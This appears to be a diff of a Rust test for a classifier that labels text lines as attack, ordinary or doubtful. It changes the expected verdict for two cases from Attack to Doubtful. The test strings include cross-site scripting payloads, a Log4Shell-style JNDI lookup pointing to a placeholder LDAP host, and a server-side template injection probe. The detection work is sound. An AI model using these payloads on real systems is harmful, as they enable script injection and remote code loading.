@@ -80,8 +80,8 @@ fn words_around_code() {
         ("Weekly report <script>alert(1)</script> of the team", Verdict::Attack),
         ("In the list <img src=x onerror=alert(1)> is shown as text", Verdict::Attack),
         ("In the list `<img src=x onerror=alert(1)>` is shown as text", Verdict::Ordinary),
-        ("Why is ${jndi:ldap://x.example/a} in our logs?", Verdict::Attack),
-        ("It is {{ ''.__class__.__mro__ }} that we see in the page", Verdict::Attack),
+        ("Why is ${jndi:ldap://x.example/a} in our logs?", Verdict::Doubtful),
+        ("It is {{ ''.__class__.__mro__ }} that we see in the page", Verdict::Doubtful),
     ] {
         assert_eq!(read_line(line.as_bytes()).verdict, verdict, "{line}: {:?}", read_line(line.as_bytes()));
     }
